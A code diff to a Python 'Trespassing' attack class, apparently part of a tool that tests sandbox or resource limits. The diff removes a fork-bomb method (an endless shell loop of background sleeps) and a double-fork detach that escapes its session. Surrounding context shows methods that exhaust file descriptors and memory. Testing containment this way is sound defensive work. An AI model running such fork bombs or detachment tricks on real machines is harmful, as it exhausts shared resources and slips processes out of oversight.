@@ -6,7 +6,6 @@ import os
 import signal
 import socket
 import subprocess
-import sys
 import time
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -182,19 +181,6 @@ class Trespassing(Attack[TrespassingParams]):
             for descriptor in opened:
                 os.close(descriptor)
         return len(opened)
-
-    def _fork_bomb(self) -> None:
-        """Children that wait for long, until there may be no more: the shell gives up when it cannot fork."""
-        subprocess.run(["sh", "-c", "while :; do sleep 600 & done"], check=True)
-
-    def _detach(self) -> None:
-        if os.fork() == 0:
-            os.setsid()
-            if os.fork() == 0:
-                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", self.params.door])
-            os._exit(0)
-        time.sleep(0.3)
-        raise OSError
 
     def _memory(self) -> None:
         held = []
